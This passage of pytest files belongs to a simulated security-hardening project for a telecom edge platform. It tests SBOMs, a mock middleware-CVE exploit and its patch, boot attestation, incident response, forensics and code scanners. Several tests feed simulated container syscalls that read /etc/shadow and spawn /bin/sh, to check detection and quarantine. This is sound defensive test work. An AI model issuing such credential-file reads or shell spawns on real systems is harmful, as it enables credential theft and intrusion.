        # requirement; ones that don't would be unexplainable spend.
        assert len(set(ALL_MITIGATIONS) - used) <= 2


class TestSbom:
    def test_sbom_lists_every_package(self):
        image = iot_analytics_image()
        sbom = generate_sbom(image)
        assert len(sbom.components) == len(image.packages)
        django = sbom.component_for("django")
        assert django is not None
        assert django.purl == "pkg:pypi/django@2.2.0"
        assert not django.imported

    def test_sbom_json_is_valid_and_stable(self):
        sbom = generate_sbom(ml_inference_image())
        parsed = json.loads(sbom.to_json())
        assert parsed["metadata"]["component"]["name"] == "acme/ml-inference:2.3.1"
        assert len(parsed["components"]) == len(sbom.components)
        assert sbom.to_json() == generate_sbom(ml_inference_image()).to_json()

    def test_vulnerabilities_cite_components(self):
        sbom = generate_sbom(iot_analytics_image())
        findings = attach_vulnerabilities(sbom, build_cve_corpus())
        assert findings
        for finding in findings:
            assert finding.component in sbom.components
            assert finding.cve.affects(finding.component.name,
                                       finding.component.version)

    def test_clean_image_sbom_has_no_vulns(self):
        sbom = generate_sbom(ml_inference_image())
        assert attach_vulnerabilities(sbom, build_cve_corpus()) == []

    def test_digest_binds_sbom_to_image_content(self):
        image = ml_inference_image()
        before = generate_sbom(image).image_digest
        image.add_layer({"/extra": b"new content"})
        assert generate_sbom(image).image_digest != before

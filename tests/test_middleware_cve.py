"""Tests for the T6 middleware-CVE exploit and M12 patch remediation."""

import pytest

from repro.attacks import MiddlewareCveExploit, patch_controller
from repro.sdn.controller import SdnController
from repro.security.vulnmgmt import build_cve_corpus


@pytest.fixture
def corpus():
    return build_cve_corpus()


class TestMiddlewareCveExploit:
    def test_stock_controller_is_exploitable(self, corpus):
        result = MiddlewareCveExploit(SdnController(), corpus).run()
        assert result.succeeded
        assert "without authorization" in result.detail

    def test_exploit_needs_no_credentials(self, corpus):
        """T6 vs T5: the CVE bypasses authn entirely — hardening creds
        does not help, only patching does."""
        from repro.security.access.leastprivilege import harden_sdn_controller
        controller = SdnController()
        harden_sdn_controller(controller)     # M10 applied...
        result = MiddlewareCveExploit(controller, corpus).run()
        assert result.succeeded               # ...and the CVE still lands

    def test_patched_controller_resists(self, corpus):
        controller = SdnController()
        assert patch_controller(controller, corpus)
        result = MiddlewareCveExploit(controller, corpus).run()
        assert not result.succeeded and "patched" in result.detail

    def test_patch_is_idempotent(self, corpus):
        controller = SdnController()
        assert patch_controller(controller, corpus)
        assert not patch_controller(controller, corpus)   # already fixed

    def test_unknown_cve(self, corpus):
        result = MiddlewareCveExploit(SdnController(), corpus,
                                      cve_id="CVE-0000-0000").run()
        assert not result.succeeded

    def test_old_onos_also_hit_by_rce(self, corpus):
        controller = SdnController(version="2.1.0")
        result = MiddlewareCveExploit(controller, corpus,
                                      cve_id="CVE-2019-16300").run()
        assert result.succeeded

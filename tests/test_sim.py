"""The discrete-event simulation core: Scheduler, clock re-entrancy,
seeded tie-breaking, and the no-direct-clock-advance architecture guard."""

from pathlib import Path

import pytest

from repro.common.clock import SimClock
from repro.common.sim import Scheduler


class TestClockReentrancy:
    """Regression tests for timers scheduled *by* a firing timer."""

    def test_reentrant_call_later_fires_within_same_advance(self):
        clock = SimClock()
        fired = []

        def first():
            fired.append(("first", clock.now))
            clock.call_later(2.0, lambda: fired.append(("second", clock.now)))

        clock.call_later(1.0, first)
        clock.advance(5.0)
        assert fired == [("first", 1.0), ("second", 3.0)]
        assert clock.now == 5.0

    def test_reentrant_timer_exactly_at_deadline_fires(self):
        clock = SimClock()
        fired = []
        clock.call_later(1.0, lambda: clock.call_later(
            1.0, lambda: fired.append(clock.now)))
        clock.advance(2.0)
        assert fired == [2.0]

    def test_reentrant_timer_beyond_deadline_stays_pending(self):
        clock = SimClock()
        fired = []
        clock.call_later(1.0, lambda: clock.call_later(
            5.0, lambda: fired.append(clock.now)))
        clock.advance(2.0)
        assert fired == []
        assert clock.pending_timers() == 1
        clock.advance(10.0)
        assert fired == [6.0]

    def test_chained_reentrant_timers_drain_in_order(self):
        clock = SimClock()
        fired = []

        def chain(depth):
            fired.append((depth, clock.now))
            if depth < 4:
                clock.call_later(1.0, lambda: chain(depth + 1))

        clock.call_later(1.0, lambda: chain(1))
        clock.advance(10.0)
        assert fired == [(1, 1.0), (2, 2.0), (3, 3.0), (4, 4.0)]

    def test_reentrant_advance_never_rewinds_time(self):
        clock = SimClock()
        seen = []

        def nested():
            clock.advance(7.0)          # moves now past the outer deadline
            seen.append(clock.now)

        clock.call_later(1.0, nested)
        clock.advance(2.0)
        assert seen == [8.0]
        assert clock.now == 8.0         # the outer deadline (2.0) must not win

    def test_same_instant_order_by_tie_then_registration(self):
        clock = SimClock()
        fired = []
        clock.call_at(1.0, lambda: fired.append("b"), tie=0.5)
        clock.call_at(1.0, lambda: fired.append("a"), tie=0.1)
        clock.call_at(1.0, lambda: fired.append("c"), tie=0.5)
        clock.advance(1.0)
        assert fired == ["a", "b", "c"]


class TestScheduler:
    def test_every_fires_at_cadence(self):
        scheduler = Scheduler(clock=SimClock())
        fired = []
        scheduler.every(1.0, lambda: fired.append(scheduler.now))
        scheduler.run_for(3.5)
        assert fired == [1.0, 2.0, 3.0]
        assert scheduler.events_fired == 3

    def test_every_first_at_and_max_fires(self):
        scheduler = Scheduler(clock=SimClock())
        fired = []
        task = scheduler.every(0.5, lambda: fired.append(scheduler.now),
                               first_at=0.0, max_fires=3)
        scheduler.run_for(10.0)
        assert fired == [0.0, 0.5, 1.0]
        assert task.fires == 3 and task.done

    def test_every_until_is_inclusive(self):
        scheduler = Scheduler(clock=SimClock())
        fired = []
        scheduler.every(1.0, lambda: fired.append(scheduler.now), until=3.0)
        scheduler.run_for(10.0)
        assert fired == [1.0, 2.0, 3.0]

    def test_cancel_stops_future_fires(self):
        scheduler = Scheduler(clock=SimClock())
        fired = []
        task = scheduler.every(1.0, lambda: fired.append(scheduler.now))
        scheduler.run_for(2.0)
        task.cancel()
        scheduler.run_for(5.0)
        assert fired == [1.0, 2.0]
        assert task.done

    def test_one_shot_call_later_and_cancel(self):
        scheduler = Scheduler(clock=SimClock())
        fired = []
        kept = scheduler.call_later(1.0, lambda: fired.append("kept"))
        dropped = scheduler.call_later(1.0, lambda: fired.append("dropped"))
        dropped.cancel()
        scheduler.run_until(2.0)
        assert fired == ["kept"]
        assert kept.fired and not dropped.fired

    def test_bad_interval_rejected(self):
        scheduler = Scheduler(clock=SimClock())
        with pytest.raises(ValueError):
            scheduler.every(0.0, lambda: None)

    def test_trace_records_time_and_name(self):
        scheduler = Scheduler(clock=SimClock())
        trace = scheduler.enable_trace()
        scheduler.every(1.0, lambda: None, name="tick", max_fires=2)
        scheduler.call_at(1.5, lambda: None, name="once")
        scheduler.run_for(3.0)
        assert trace == [(1.0, "tick"), (1.5, "once"), (2.0, "tick")]

    def test_same_seed_same_interleaving(self):
        def trace_for(seed):
            scheduler = Scheduler(clock=SimClock(), seed=seed)
            trace = scheduler.enable_trace()
            scheduler.every(1.0, lambda: None, name="a", max_fires=4)
            scheduler.every(1.0, lambda: None, name="b", max_fires=4)
            scheduler.every(2.0, lambda: None, name="c", max_fires=2)
            scheduler.run_for(4.0)
            return trace

        assert trace_for(7) == trace_for(7)
        # Same-instant interleaving is seed-controlled, so *some* seed
        # pair must disagree (times still agree; names may swap).
        assert any(trace_for(7) != trace_for(s) for s in range(20))

    def test_direct_clock_advance_still_fires_tasks(self):
        # Legacy tests drive the shared clock directly; scheduler tasks
        # ride the same timer wheel and must fire on the way.
        clock = SimClock()
        scheduler = Scheduler(clock=clock)
        fired = []
        scheduler.every(1.0, lambda: fired.append(scheduler.now))
        clock.advance(2.5)
        assert fired == [1.0, 2.0]

    def test_stats_snapshot(self):
        scheduler = Scheduler(clock=SimClock())
        scheduler.every(1.0, lambda: None, max_fires=2)
        scheduler.run_for(5.0)
        stats = scheduler.stats()
        assert stats["events_fired"] == 2.0
        assert stats["tasks_registered"] == 1.0
        assert stats["tasks_active"] == 0.0
        assert stats["now"] == 5.0


class TestNoDirectClockAdvance:
    """The CI guard, enforced as a unit test: outside the sim engine and
    the clock itself, nothing in ``src/repro`` advances the clock."""

    ALLOWED = {Path("common") / "sim.py", Path("common") / "clock.py"}

    def test_clock_advance_confined_to_sim_core(self):
        root = Path(__file__).resolve().parent.parent / "src" / "repro"
        offenders = []
        for path in sorted(root.rglob("*.py")):
            if path.relative_to(root) in self.ALLOWED:
                continue
            for lineno, line in enumerate(
                    path.read_text().splitlines(), start=1):
                if "clock.advance" in line:
                    offenders.append(f"{path.relative_to(root)}:{lineno}")
        assert offenders == [], (
            "clock.advance called outside repro.common.sim/clock — "
            "register a scheduler task instead: " + ", ".join(offenders))

"""Tests for remote attestation (M5 extension) and incident response
(M18 -> M17 loop)."""

import pytest

from repro.common import crypto
from repro.common.errors import QuarantineError
from repro.osmodel.boot import BootComponent, BootStage
from repro.osmodel.presets import stock_onl_olt_host
from repro.platform.workloads import ml_inference_image
from repro.security.integrity.attestation import (
    AttestationAgent, AttestationVerifier, Quote,
)
from repro.security.integrity.secureboot import SecureBootProvisioner
from repro.security.monitor import FalcoEngine
from repro.security.monitor.response import IncidentResponder
from repro.virt.container import ContainerSpec
from repro.virt.runtime import ContainerRuntime


@pytest.fixture
def attested_host():
    host = stock_onl_olt_host()
    provisioner = SecureBootProvisioner()
    provisioner.provision(host)
    provisioner.record_golden_state(host)
    agent = AttestationAgent(host, seed=5)
    verifier = AttestationVerifier(provisioner)
    verifier.register(agent)
    return host, provisioner, agent, verifier


class TestRemoteAttestation:
    def test_good_boot_attests_remotely(self, attested_host):
        host, _, agent, verifier = attested_host
        host.boot()
        nonce = verifier.challenge()
        verdict = verifier.verify(agent.quote(nonce), nonce)
        assert verdict.trusted
        assert verifier.is_schedulable(host.hostname)

    def test_tampered_boot_quarantines(self, attested_host):
        host, provisioner, agent, verifier = attested_host
        host.firmware.secure_boot = False
        host.boot_chain.install(BootComponent(BootStage.KERNEL, b"bootkit"))
        host.boot()
        nonce = verifier.challenge()
        verdict = verifier.verify(agent.quote(nonce), nonce)
        assert not verdict.trusted and "diverges" in verdict.reason
        assert not verifier.is_schedulable(host.hostname)

    def test_recovery_lifts_quarantine(self, attested_host):
        host, provisioner, agent, verifier = attested_host
        host.firmware.secure_boot = False
        host.boot_chain.install(BootComponent(BootStage.KERNEL, b"bootkit"))
        host.boot()
        nonce = verifier.challenge()
        verifier.verify(agent.quote(nonce), nonce)
        assert not verifier.is_schedulable(host.hostname)
        # Operator restores the signed kernel and reboots:
        provisioner.provision(host)
        host.firmware.secure_boot = True
        host.boot()
        nonce = verifier.challenge()
        assert verifier.verify(agent.quote(nonce), nonce).trusted
        assert verifier.is_schedulable(host.hostname)

    def test_replayed_quote_rejected(self, attested_host):
        host, _, agent, verifier = attested_host
        host.boot()
        nonce = verifier.challenge()
        quote = agent.quote(nonce)
        assert verifier.verify(quote, nonce).trusted
        verdict = verifier.verify(quote, nonce)   # replay of the same quote
        assert not verdict.trusted and "replay" in verdict.reason

    def test_stale_nonce_rejected(self, attested_host):
        host, _, agent, verifier = attested_host
        host.boot()
        old_nonce = verifier.challenge()
        quote = agent.quote(old_nonce)
        fresh_nonce = verifier.challenge()
        verdict = verifier.verify(quote, fresh_nonce)
        assert not verdict.trusted and "nonce mismatch" in verdict.reason

    def test_forged_signature_rejected(self, attested_host):
        host, _, agent, verifier = attested_host
        host.boot()
        nonce = verifier.challenge()
        quote = agent.quote(nonce)
        forged = Quote(host=quote.host, nonce=quote.nonce,
                       pcr_digest=quote.pcr_digest,
                       signature=crypto.RsaKeyPair.generate(512, seed=9)
                       .sign(quote.nonce + quote.pcr_digest))
        assert not verifier.verify(forged, nonce).trusted

    def test_unregistered_node_rejected(self, attested_host):
        _, _, agent, verifier = attested_host
        other = stock_onl_olt_host("unknown-node")
        prov2 = SecureBootProvisioner()
        prov2.provision(other)
        prov2.record_golden_state(other)
        stranger = AttestationAgent(other, seed=6)
        nonce = verifier.challenge()
        assert not verifier.verify(stranger.quote(nonce), nonce).trusted

    def test_register_requires_golden_state(self):
        host = stock_onl_olt_host()
        provisioner = SecureBootProvisioner()
        provisioner.provision(host)
        agent = AttestationAgent(host, seed=7)
        with pytest.raises(ValueError):
            AttestationVerifier(provisioner).register(agent)

    def test_agent_requires_tpm(self):
        from repro.osmodel.host import Host
        host = Host("no-tpm", with_tpm=False)
        with pytest.raises(ValueError):
            AttestationAgent(host)


class TestIncidentResponse:
    @pytest.fixture
    def responder_setup(self):
        runtime = ContainerRuntime("node")
        engine = FalcoEngine()
        engine.attach(runtime.bus)
        responder = IncidentResponder(runtime, engine, warning_threshold=3)
        return runtime, engine, responder

    def test_critical_alert_kills_and_quarantines(self, responder_setup):
        runtime, _, responder = responder_setup
        container = runtime.run(ContainerSpec(image=ml_inference_image(),
                                              tenant="tenant-evil"))
        runtime.syscall(container.id, "open", path="/etc/shadow")
        actions = responder.process_new_alerts()
        assert {a.kind for a in actions} == {"kill", "quarantine-tenant"}
        assert not container.running
        with pytest.raises(QuarantineError):
            runtime.run(ContainerSpec(image=ml_inference_image(),
                                      tenant="tenant-evil"))

    def test_other_tenants_unaffected(self, responder_setup):
        runtime, _, responder = responder_setup
        bad = runtime.run(ContainerSpec(image=ml_inference_image(),
                                        tenant="tenant-evil"))
        runtime.syscall(bad.id, "open", path="/etc/shadow")
        responder.process_new_alerts()
        good = runtime.run(ContainerSpec(image=ml_inference_image(),
                                         tenant="tenant-good"))
        assert good.running

    def test_warning_threshold_escalation(self, responder_setup):
        runtime, _, responder = responder_setup
        container = runtime.run(ContainerSpec(image=ml_inference_image(),
                                              tenant="tenant-a"))
        for _ in range(2):
            runtime.syscall(container.id, "execve", path="/bin/sh")
        responder.process_new_alerts()
        assert container.running        # below threshold
        runtime.syscall(container.id, "execve", path="/bin/sh")
        actions = responder.process_new_alerts()
        assert any(a.kind == "kill" for a in actions)
        assert not container.running
        assert "tenant-a" not in responder.quarantined_tenants  # warnings only

    def test_idempotent_processing(self, responder_setup):
        runtime, _, responder = responder_setup
        container = runtime.run(ContainerSpec(image=ml_inference_image(),
                                              tenant="t"))
        runtime.syscall(container.id, "open", path="/etc/shadow")
        first = responder.process_new_alerts()
        second = responder.process_new_alerts()
        assert first and second == []   # alerts consumed exactly once

    def test_invalid_threshold(self, responder_setup):
        runtime, engine, _ = responder_setup
        with pytest.raises(ValueError):
            IncidentResponder(runtime, engine, warning_threshold=0)

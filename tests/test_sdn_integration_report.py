"""Tests for ONU firmware attestation, the SDN provisioning service,
the security report generator, and the CLI."""

import pytest

from repro.common.errors import AuthenticationError, AuthorizationError, NotFoundError
from repro.pon.attacks import FirmwareTamperAttack
from repro.pon.network import PonNetwork
from repro.pon.onu import Onu
from repro.sdn.controller import ApiCapability, SdnController
from repro.sdn.integration import SdnProvisioningService
from repro.sdn.voltha import VolthaCore
from repro.security.access.leastprivilege import (
    harden_sdn_controller, harden_voltha,
)
from repro.security.comms import SecureChannelManager


class TestFirmwareAttestationAtActivation:
    @pytest.fixture
    def secured(self):
        manager = SecureChannelManager()
        network = PonNetwork.build()
        manager.secure_pon(network)
        onu = Onu("ONU-A", firmware=b"vendor-firmware-v2.1")
        manager.enroll_onu(onu)
        manager.activate_onu_securely(network, onu)
        return manager, network, onu

    def test_tampered_firmware_blocked_on_secured_pon(self, secured):
        manager, network, _ = secured
        attack = FirmwareTamperAttack(network, "ONU-A")
        result = attack.run(activate=manager.activate_onu_securely)
        assert not result.succeeded
        assert "firmware measurement mismatch" in result.detail

    def test_tampered_firmware_rejoins_legacy_pon(self):
        network = PonNetwork.build()
        network.attach_onu(Onu("ONU-A"))
        result = FirmwareTamperAttack(network, "ONU-A").run()
        assert result.succeeded

    def test_untampered_reactivation_still_works(self, secured):
        manager, network, onu = secured
        onu.activated = False
        manager.activate_onu_securely(network, onu)
        assert onu.activated

    def test_legitimate_firmware_update_needs_reenrollment(self, secured):
        manager, network, onu = secured
        onu.flash_firmware(b"vendor-firmware-v2.2")   # legitimate update
        onu.activated = False
        with pytest.raises(AuthenticationError):
            manager.activate_onu_securely(network, onu)
        manager.enroll_onu(onu)                        # operator re-measures
        manager.activate_onu_securely(network, onu)
        assert onu.activated


class TestSdnProvisioningService:
    @pytest.fixture
    def hardened_service(self):
        controller = SdnController()
        harden_sdn_controller(controller)
        voltha = VolthaCore()
        harden_voltha(voltha)
        voltha.accounts["genio-mgmt"] = voltha.accounts.pop("genio-voltha-admin")
        voltha.accounts["genio-mgmt"].name = "genio-mgmt"
        voltha.accounts["genio-mgmt"].tls_certificate_fp = "fp-genio-mgmt"
        service = SdnProvisioningService(
            controller, voltha, account="genio-mgmt",
            credential={"tls_certificate_fp": "fp-genio-mgmt"})
        return controller, voltha, service

    def test_bring_up_and_provision_subscriber(self, hardened_service):
        controller, voltha, service = hardened_service
        network = PonNetwork.build("olt-edge-1")
        record = service.bring_up_olt(network)
        assert record.controller_registered
        assert record.voltha_state == "ENABLED"

        gem_port = service.provision_subscriber(network, "GNIO010001", vlan=100)
        assert network.olt.provisioned_serials["GNIO010001"] == gem_port
        assert controller.devices["olt-edge-1"].flows
        assert record.subscribers_provisioned == ["GNIO010001"]

    def test_subscriber_requires_enabled_olt(self, hardened_service):
        _, _, service = hardened_service
        network = PonNetwork.build("olt-unregistered")
        with pytest.raises(NotFoundError):
            service.provision_subscriber(network, "X", vlan=1)

    def test_wrong_credential_rejected_at_first_hop(self, hardened_service):
        controller, voltha, _ = hardened_service
        impostor = SdnProvisioningService(
            controller, voltha, account="genio-mgmt",
            credential={"tls_certificate_fp": "stolen"})
        with pytest.raises(AuthenticationError):
            impostor.bring_up_olt(PonNetwork.build("olt-x"))

    def test_default_setup_works_unauthenticated_which_is_the_problem(self):
        controller = SdnController()   # stock: onos/rocks
        voltha = VolthaCore()
        from repro.sdn.voltha import ServiceAccount
        voltha.add_account(ServiceAccount("onos", "", admin=True))
        service = SdnProvisioningService(controller, voltha, account="onos",
                                         credential={"password": "rocks"})
        record = service.bring_up_olt(PonNetwork.build("olt-y"))
        assert record.controller_registered   # insecure defaults in action


class TestSecurityReport:
    @pytest.fixture(scope="class")
    def posture(self):
        from repro.platform import build_genio_deployment
        from repro.security.pipeline import SecurityPipeline
        return SecurityPipeline(
            build_genio_deployment(n_olts=1, onus_per_olt=2)).apply()

    def test_secured_platform_reports_ready(self, posture):
        from repro.security.report import generate_report
        report = generate_report(posture)
        assert report.ready
        rendered = report.render()
        assert "READY" in rendered
        assert rendered.count("[OK ]") == len(report.sections)

    def test_unhardened_area_reports_gap(self, posture):
        from repro.security.report import generate_report
        # Simulate a regression: someone disables the kube-bench controls.
        config = posture.deployment.cloud_cluster.api.config
        original = config.anonymous_auth
        config.anonymous_auth = True
        try:
            report = generate_report(posture)
            assert not report.ready
            assert "[GAP]" in report.render()
        finally:
            config.anonymous_auth = original


class TestCli:
    def test_inventory(self, capsys):
        from repro.__main__ import main
        assert main(["inventory"]) == 0
        out = capsys.readouterr().out
        assert "[far-edge]" in out and "[cloud]" in out

    def test_threats(self, capsys):
        from repro.__main__ import main
        assert main(["threats"]) == 0
        out = capsys.readouterr().out
        assert "T1" in out and "M18" in out

    def test_attack(self, capsys):
        from repro.__main__ import main
        assert main(["attack"]) == 0
        out = capsys.readouterr().out
        assert out.count("blocked") == 4

    def test_secure_small(self, capsys):
        from repro.__main__ import main
        assert main(["secure", "--olts", "1"]) == 0
        assert "READY" in capsys.readouterr().out

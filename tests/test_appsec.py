"""Unit tests for M13/M14/M15 application security."""

import pytest

from repro.osmodel.presets import stock_onl_olt_host
from repro.platform.workloads import (
    iot_analytics_image, legacy_java_billing_image, malicious_miner_image,
    ml_inference_image, vulnerable_webapp_image,
)
from repro.security.appsec import (
    CatsFuzzer, NmapScanner, RestService, SastEngine, ScaScanner,
)
from repro.security.appsec.sca import ScaReport
from repro.security.vulnmgmt.corpus import build_cve_corpus
from repro.security.vulnmgmt.cvedb import Severity


@pytest.fixture
def sca():
    return ScaScanner(build_cve_corpus())


@pytest.fixture
def sast():
    return SastEngine()


class TestSca:
    def test_clean_image_is_clean(self, sca):
        report = sca.scan(ml_inference_image())
        assert report.findings == []
        assert ScaScanner.gate(report)

    def test_vulnerable_webapp_flagged(self, sca):
        report = sca.scan(vulnerable_webapp_image())
        assert report.findings
        cves = {f.cve.cve_id for f in report.findings}
        assert "CVE-2019-14234" in cves   # django 2.2.0 SQLi
        assert not ScaScanner.gate(report)

    def test_lesson7_noise_on_unused_dependencies(self, sca):
        report = sca.scan(iot_analytics_image())
        assert report.noise                      # unused deps still flagged
        assert report.noise_rate > 0.5           # most findings are noise
        assert report.actionable                 # but real ones exist too
        noisy_packages = {f.package.name for f in report.noise}
        assert "django" in noisy_packages        # present, never imported

    def test_gate_blocks_on_noise_too(self, sca):
        """The tool cannot see reachability, so noise blocks publishes."""
        report = sca.scan(iot_analytics_image())
        assert not ScaScanner.gate(report)

    def test_severity_histogram(self, sca):
        report = sca.scan(vulnerable_webapp_image())
        histogram = report.by_severity()
        assert histogram[Severity.CRITICAL] >= 1


class TestSast:
    def test_vulnerable_webapp_findings(self, sast):
        report = sast.scan_image(vulnerable_webapp_image())
        rules = set(report.rule_ids())
        assert "B105" in rules    # hardcoded credential
        assert "B608" in rules    # SQL string building
        assert "B602" in rules    # shell=True
        assert "B301" in rules    # pickle
        assert "B303" in rules    # md5
        assert "B605" in rules    # os.system injection
        assert "SG-TLS-01" in rules
        assert "SG-HTTP-01" in rules
        assert "SG-DEBUG-01" in rules

    def test_findings_have_real_lines(self, sast):
        report = sast.scan_image(vulnerable_webapp_image())
        sqli = [f for f in report.findings if f.rule_id == "B608"]
        assert sqli and sqli[0].line > 0
        assert sqli[0].path == "/app/views.py"

    def test_clean_image_has_no_security_findings(self, sast):
        report = sast.scan_image(ml_inference_image())
        assert report.security_findings == []

    def test_java_rules(self, sast):
        report = sast.scan_image(legacy_java_billing_image())
        rules = set(report.rule_ids())
        assert {"SB-CMD-01", "SB-HASH-01", "SB-SQL-01"} <= rules

    def test_parse_error_is_reported_not_fatal(self, sast):
        from repro.security.appsec.sast import SastReport
        report = SastReport(target="t")
        sast.scan_source("/app/broken.py", "def broken(:\n", report)
        assert report.parse_errors

    def test_quality_vs_security_separation(self, sast):
        from repro.security.appsec.sast import SastReport
        report = SastReport(target="t")
        sast.scan_source("/app/q.py",
                         "def f(x=[]):\n"
                         "    try:\n"
                         "        return x\n"
                         "    except:\n"
                         "        pass\n", report)
        assert {f.rule_id for f in report.quality_findings} == {"W0102", "W0702"}
        assert report.security_findings == []

    def test_safe_yaml_not_flagged(self, sast):
        from repro.security.appsec.sast import SastReport
        report = SastReport(target="t")
        sast.scan_source("/app/a.py",
                         "import yaml\n"
                         "data = yaml.load(s, Loader=yaml.SafeLoader)\n",
                         report)
        assert not any(f.rule_id == "B506" for f in report.findings)
        sast.scan_source("/app/b.py",
                         "import yaml\ndata = yaml.load(s)\n", report)
        assert any(f.rule_id == "B506" for f in report.findings)


class TestDast:
    def test_fuzzer_finds_seeded_defects(self):
        report = CatsFuzzer().fuzz_image(vulnerable_webapp_image())
        kinds = {f.kind for f in report.findings}
        assert "server-error" in kinds        # SQLi stack trace
        assert "auth-bypass" in kinds         # /admin/export without token
        assert "reflected-content" in kinds   # XSS on /search
        assert report.requests_sent > 20

    def test_clean_service_survives_fuzzing(self):
        report = CatsFuzzer().fuzz_image(ml_inference_image())
        assert report.findings == []
        assert report.fuzzable

    def test_non_rest_image_is_unfuzzable(self):
        report = CatsFuzzer().fuzz_image(malicious_miner_image())
        assert not report.fuzzable
        assert "not fuzzable" in report.note

    def test_type_confusion_found(self):
        report = CatsFuzzer().fuzz_image(iot_analytics_image())
        families = {f.payload_family for f in report.findings}
        assert "non-numeric" in families or "empty" in families

    def test_rest_service_unknown_path_404(self):
        service = RestService("s", spec={"paths": {}})
        assert service.call("GET", "/nope", {}).status == 404


class TestNmap:
    def test_stock_host_has_unexpected_ports_and_no_tls(self):
        report = NmapScanner().scan(stock_onl_olt_host())
        unexpected = {f.port for f in report.unexpected_open}
        assert {23, 69, 80} <= unexpected      # telnet, tftp, plaintext http
        assert any(f.port == 22 for f in report.findings)

    def test_hardened_host_is_quiet(self):
        from repro.security.hardening import harden_host
        host = stock_onl_olt_host()
        harden_host(host)
        report = NmapScanner(allowed_ports=(22, 443, 6443, 161, 6640)).scan(host)
        assert {f.port for f in report.unexpected_open} == set()

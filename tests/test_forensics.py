"""Tests for forensic evidence bundles."""

import json

import pytest

from repro.common.errors import IntegrityError
from repro.platform.workloads import ml_inference_image
from repro.security.integrity.fim import FimFinding
from repro.security.monitor import FalcoEngine
from repro.security.monitor.correlate import correlate
from repro.security.monitor.forensics import ForensicCollector
from repro.virt.container import ContainerSpec
from repro.virt.runtime import ContainerRuntime


@pytest.fixture
def incident_setup():
    runtime = ContainerRuntime("node")
    engine = FalcoEngine()
    engine.attach(runtime.bus)
    bad = runtime.run(ContainerSpec(image=ml_inference_image(),
                                    tenant="tenant-evil"))
    bystander = runtime.run(ContainerSpec(image=ml_inference_image(),
                                          tenant="tenant-good"))
    runtime.syscall(bad.id, "execve", path="/bin/sh")
    runtime.syscall(bad.id, "open", path="/etc/shadow")
    runtime.syscall(bystander.id, "read", path="/data/x")
    incidents = correlate(engine.alerts)
    incident = next(i for i in incidents if i.key == "tenant-evil")
    return runtime, engine, incident


class TestForensicCollector:
    def test_bundle_contains_related_events_only(self, incident_setup):
        runtime, _, incident = incident_setup
        collector = ForensicCollector(runtime.bus)
        bundle = collector.collect(incident)
        assert bundle.events
        for event in bundle.events:
            assert "tenant-evil" in json.dumps(event)
        assert not any("tenant-good" in json.dumps(e) for e in bundle.events)

    def test_bundle_includes_alerts_and_fim(self, incident_setup):
        runtime, _, incident = incident_setup
        collector = ForensicCollector(runtime.bus)
        fim = [FimFinding(path="/usr/bin/sudo", change="modified",
                          mutable=False)]
        bundle = collector.collect(incident, fim_findings=fim)
        assert len(bundle.alerts) == len(incident.alerts)
        assert bundle.integrity_findings[0]["path"] == "/usr/bin/sudo"

    def test_seal_and_verify(self, incident_setup):
        runtime, _, incident = incident_setup
        collector = ForensicCollector(runtime.bus)
        bundle = collector.collect(incident)
        collector.verify(bundle)   # untouched -> fine

    def test_tampered_bundle_detected(self, incident_setup):
        runtime, _, incident = incident_setup
        collector = ForensicCollector(runtime.bus)
        bundle = collector.collect(incident)
        bundle.alerts[0]["rule"] = "nothing_to_see_here"
        with pytest.raises(IntegrityError):
            collector.verify(bundle)

    def test_json_round_trip(self, incident_setup):
        runtime, _, incident = incident_setup
        collector = ForensicCollector(runtime.bus)
        bundle = collector.collect(incident)
        parsed = json.loads(bundle.to_json())
        assert parsed["incident_key"] == "tenant-evil"
        assert parsed["digest"] == bundle.digest

    def test_window_margin_applied(self, incident_setup):
        runtime, _, incident = incident_setup
        collector = ForensicCollector(runtime.bus, margin_s=120.0)
        bundle = collector.collect(incident)
        assert bundle.window["start"] == incident.started_at - 120.0
        assert bundle.window["end"] == incident.ended_at + 120.0

"""Tests for node cordoning and its integration with attestation."""

import pytest

from repro.common.errors import CapacityError, NotFoundError
from repro.orchestrator.kube.cluster import KubeCluster
from repro.orchestrator.kube.objects import Namespace, PodSpec
from repro.platform import build_genio_deployment, ml_inference_image
from repro.security.pipeline import SecurityPipeline
from repro.virt.hypervisor import Hypervisor
from repro.virt.vm import VmSpec


@pytest.fixture
def cluster():
    cluster = KubeCluster()
    hv = Hypervisor("olt-1", cpu_cores=16, memory_mb=32768,
                    clock=cluster.clock, bus=cluster.bus)
    for i in range(2):
        cluster.add_node(hv.create_vm(VmSpec(f"w{i}", vcpus=4,
                                             memory_mb=8192)))
    cluster.add_namespace(Namespace("tenant-a"))
    return cluster


class TestCordon:
    def test_cordoned_node_takes_no_new_pods(self, cluster):
        first = sorted(cluster.nodes)[0]
        cluster.cordon(first)
        for i in range(3):
            pod = cluster.schedule(PodSpec(name=f"p{i}", namespace="tenant-a",
                                           image=ml_inference_image()))
            assert pod.node != first

    def test_cordon_drains_running_pods(self, cluster):
        pod = cluster.schedule(PodSpec(name="p", namespace="tenant-a",
                                       image=ml_inference_image()))
        drained = cluster.cordon(pod.node)
        assert [p.key for p in drained] == [pod.key]
        assert pod.key not in cluster.pods

    def test_uncordon_restores_scheduling(self, cluster):
        for name in list(cluster.nodes):
            cluster.cordon(name)
        with pytest.raises(CapacityError):
            cluster.schedule(PodSpec(name="stuck", namespace="tenant-a",
                                     image=ml_inference_image()))
        cluster.uncordon(sorted(cluster.nodes)[0])
        pod = cluster.schedule(PodSpec(name="ok", namespace="tenant-a",
                                       image=ml_inference_image()))
        assert pod.phase == "Running"

    def test_cordon_unknown_node(self, cluster):
        with pytest.raises(NotFoundError):
            cluster.cordon("ghost")

    def test_cordon_emits_event(self, cluster):
        events = []
        cluster.bus.subscribe("kube.cordon", events.append)
        cluster.cordon(sorted(cluster.nodes)[0])
        assert events and events[0].get("drained") == 0


class TestInterOltLinks:
    def test_pipeline_secures_inter_olt_segments(self):
        deployment = build_genio_deployment(n_olts=3, onus_per_olt=1)
        posture = SecurityPipeline(deployment).apply()
        links = posture.channels.secured_links
        inter = [name for name in links if name.startswith("interolt-")]
        uplinks = [name for name in links if name.startswith("uplink-")]
        assert len(inter) == 2      # chain of 3 OLTs -> 2 segments
        assert len(uplinks) == 3
        for name in inter:
            assert links[name].handshake.shared_secret

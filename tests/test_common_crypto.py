"""Unit tests for the simulated cryptography foundation."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.common import crypto
from repro.common.errors import IntegrityError

KEY = b"k" * 32


class TestHashing:
    def test_sha256_matches_known_vector(self):
        assert crypto.sha256_hex(b"") == (
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
        )

